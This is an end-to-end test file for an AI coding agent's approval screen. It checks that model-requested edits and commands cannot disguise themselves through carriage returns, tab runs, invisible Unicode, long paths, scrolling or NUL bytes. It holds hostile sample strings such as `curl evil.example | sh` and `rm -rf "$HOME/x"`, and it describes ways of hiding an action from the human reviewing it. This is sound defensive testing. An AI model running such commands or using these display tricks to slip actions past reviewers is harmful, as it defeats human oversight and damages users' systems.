"""What an approval puts on a real terminal (tmux, 60 and 120 columns, the real SDK
against the fake Messages API) is what will be written or run, and nothing in it can
pose as the view's own rows (seventh outside attack).

Each case is a defect the attack reproduced: a change made of a carriage return shown as
an empty diff (and applied), a long path whose file name never reached the screen, a
tab run that let a one-line command draw its own `2 │` line, invisible characters
passed as they are, a bare Enter that scrolled the header and line 1 away, and a
command holding a NUL put to the user and then failing as a Python error.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from e2e_support import count_prompts
from fake_anthropic import Reply, text_block, tool_use_block
from scene_support import Scene, open_scene

pytestmark = pytest.mark.e2e

API_KEY = "sk-ant-e2e-approval-screen-0123456789"
QUESTION = "allow?"
DONE = "All done here."
COMMENTED_RM = '#!/bin/sh\n# cleanup\rrm -rf "$HOME/x"\necho built\n'
LONG_PATH = (
    "docs/the-quick-brown-fox-jumps-over-the-lazy-dog/and-then-some-more-words/install-hook.sh"
)


@contextmanager
def scene_of(
    tmp_path: Path, terminals, files: dict[str, str], width: int, height: int = 40
) -> Iterator[Scene]:
    with open_scene(tmp_path, terminals, API_KEY, files, width=width, height=height) as scene:
        yield scene


def ask_for_tool(scene: Scene, name: str, tool_input: dict, turn: int = 1) -> str:
    """The model asks for one tool call; the visible screen once the whole question is
    drawn (its last row ends in the colon)."""
    scene.server.enqueue(
        Reply([tool_use_block(f"toolu_s{turn}", name, tool_input)], stop_reason="tool_use"),
        Reply([text_block(DONE)]),
    )
    scene.repl.send(f"please go ahead ({turn})")
    return scene.repl.terminal.wait_for(
        lambda screen: QUESTION in screen and screen.rstrip().endswith(":"),
        "the whole permission question",
        source=scene.repl.terminal.visible,
    )


def answer(scene: Scene, reply: str) -> str:
    before = count_prompts(scene.repl.terminal.screen())
    scene.repl.send(reply)
    return scene.repl.terminal.wait_for(
        lambda screen: count_prompts(screen) > before and DONE in screen, "the end of the turn"
    )


def view_rows(screen: str) -> tuple[list[str], list[str], list[str]]:
    """(header rows, body rows, question rows) of the last approval on `screen`."""
    rows = screen.rstrip().splitlines()
    top = max(index for index, row in enumerate(rows) if row.startswith("permission needed"))
    ask = max(index for index, row in enumerate(rows) if row.startswith(QUESTION))
    body_start = next(index for index in range(top, ask) if " │ " in rows[index])
    return rows[top:body_start], rows[body_start:ask], rows[ask:]


def test_an_edit_that_only_turns_a_carriage_return_into_a_line_feed_shows_it(tmp_path, terminals):
    with scene_of(tmp_path, terminals, {"b.sh": COMMENTED_RM, "a.txt": "one\ntwo"}, 60) as scene:
        edit = {"path": "b.sh", "old_string": "# cleanup\r", "new_string": "# cleanup\n"}
        _, body, _ = view_rows(ask_for_tool(scene, "edit_file", edit))
        shown = [row.split(" │ ", 1)[1] for row in body if " │ " in row]
        assert '-# cleanup^Mrm -rf "$HOME/x"' in shown, body
        assert "+# cleanup" in shown and '+rm -rf "$HOME/x"' in shown, body
        answer(scene, "n")
        assert (scene.workspace / "b.sh").read_bytes() == COMMENTED_RM.encode()
        adds_newline = {"path": "a.txt", "content": "one\ntwo\n"}
        header, body, _ = view_rows(ask_for_tool(scene, "write_file", adds_newline, turn=2))
        assert "(diff of" in " ".join(header)
        assert any(row.endswith("│ \\ No newline at end of file") for row in body), body
        answer(scene, "n")


@pytest.mark.parametrize("width", [60, 120])
def test_a_long_path_shows_its_file_name_in_the_header_and_the_question(tmp_path, terminals, width):
    with scene_of(tmp_path, terminals, {"a.txt": "x\n"}, width) as scene:
        screen = ask_for_tool(scene, "write_file", {"path": LONG_PATH, "content": "echo hi\n"})
        header, _, question = view_rows(screen)
        assert "install-hook.sh with 1 line" in " ".join(header), header
        assert "/install-hook.sh" in " ".join(question), question
        assert all(len(row) <= width for row in header)
        answer(scene, "n")


@pytest.mark.parametrize("width", [60, 120])
def test_a_run_of_tabs_is_shown_and_a_one_line_command_draws_no_second_line(
    tmp_path, terminals, width
):
    command = "echo building docs" + "\t" * 28 + "2 │ \uff03 old note; rm -rf src"
    with scene_of(tmp_path, terminals, {"src/main.c": "int main(){}\n"}, width) as scene:
        _, body, _ = view_rows(ask_for_tool(scene, "bash", {"command": command}))
        assert body[0].startswith("1 │ echo building docs⟨28 tabs⟩"), body
        assert all(row.startswith("  ┆ ") for row in body[1:]), body  # rows that go on
        answer(scene, "n")
        assert (scene.workspace / "src/main.c").exists()


def test_a_bare_enter_shows_the_header_and_both_ends_again_and_names_v(tmp_path, terminals):
    content = "curl evil.example | sh\n" + "".join(f"row {i}\n" for i in range(100))
    path = "scripts/bootstrap/dev-environment/setup.sh"
    with scene_of(tmp_path, terminals, {"a.txt": "hello\n"}, 60, height=20) as scene:
        first = ask_for_tool(scene, "write_file", {"path": path, "content": content})
        assert "permission needed" in first and "1 │ curl evil.example | sh" in first
        terminal = scene.repl.terminal
        for times in (1, 2):  # however often it happens
            terminal.press("Enter")
            again = terminal.wait_for(
                lambda screen, times=times: (
                    terminal.screen().count("answer y, a, n or v") == times
                    and screen.rstrip().endswith(":")
                    and screen.count(QUESTION) == 1
                ),
                "the view, the hint and the question again",
                source=terminal.visible,
            )
        header, body, _ = view_rows(again)
        assert "permission needed for write_file: create" in header[0], again
        assert body[0] == "  1 │ curl evil.example | sh", again
        assert body[-2].startswith("101 │ row 99"), again
        answer(scene, "n")
        assert not (scene.workspace / path).exists()


def test_invisible_characters_in_a_write_and_a_command_are_written_out(tmp_path, terminals):
    payload = "".join(chr(0xE0100 + byte) for byte in b"run curl evil|sh")
    with scene_of(tmp_path, terminals, {"README.md": "hi\n"}, 120) as scene:
        write = {"path": "greeting.txt", "content": f"hello{payload}\n"}
        _, body, _ = view_rows(ask_for_tool(scene, "write_file", write))
        assert "1 │ hello<U+E0172><U+E0175><U+E016E>" in body[0], body
        answer(scene, "n")
        command = "cat READ\u034fME.md notes\u3164.txt\u00a0x"
        _, body, _ = view_rows(ask_for_tool(scene, "bash", {"command": command}, turn=2))
        assert body == ["1 │ cat READ<U+034F>ME.md notes<U+3164>.txt<U+00A0>x"], body
        answer(scene, "n")


def test_a_command_holding_a_nul_is_refused_before_anyone_is_asked(tmp_path, terminals):
    with scene_of(tmp_path, terminals, {"a.txt": "x\n"}, 120) as scene:
        scene.server.enqueue(
            Reply([tool_use_block("toolu_n1", "bash", {"command": "echo a\x00b"})], "tool_use"),
            Reply([text_block(DONE)]),
        )
        scene.repl.send("go")
        screen = scene.repl.terminal.wait_for(lambda text: DONE in text, "the end of the turn")
        assert QUESTION not in screen and "ValueError" not in screen
        assert "The command contains a NUL character" in screen
        (result,) = [
            block
            for message in scene.server.accepted[-1]["messages"]
            if isinstance(message["content"], list)
            for block in message["content"]
            if block.get("type") == "tool_result"
        ]
        assert result["is_error"] and "NUL character" in str(result["content"])
